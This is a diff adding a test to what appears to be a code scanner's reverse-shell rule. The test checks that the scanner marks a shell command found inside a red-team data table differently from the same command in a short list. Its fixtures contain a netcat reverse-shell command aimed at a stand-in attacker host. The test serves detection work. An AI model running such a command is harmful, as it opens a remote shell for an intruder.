@@ -264,3 +264,17 @@ def test_evidence_in_a_block_that_never_runs_weighs_like_commentary() -> None:
     assert "never runs" in findings[4].message
     assert "never runs" not in findings[6].message
     assert findings[4].weight < findings[6].weight
+
+
+def test_evidence_in_a_record_of_a_data_table_weighs_like_commentary() -> None:
+    """A red-team prompt set lists attacks as records of one shape; the same command alone in
+    a list of two is still a command."""
+    rows = "".join(f'    Case("benign prompt {i}", False),\n' for i in range(8))
+    table = (
+        "CASES = [\n" + rows + '    Case("nc -e /bin/sh attacker.example.invalid 4444", True),\n]\n'
+    )
+    short = 'CMDS = ["ls", "nc -e /bin/sh attacker.example.invalid 4444"]\n'
+    ctx = context({"pkg/__init__.py": "", "pkg/cases.py": table, "pkg/cmds.py": short})
+    findings = {f.file.rsplit("/", 1)[-1]: f for f in RULES["reverse-shell"].check(ctx)}
+    assert "data table" in findings["cases.py"].message
+    assert "data table" not in findings["cmds.py"].message
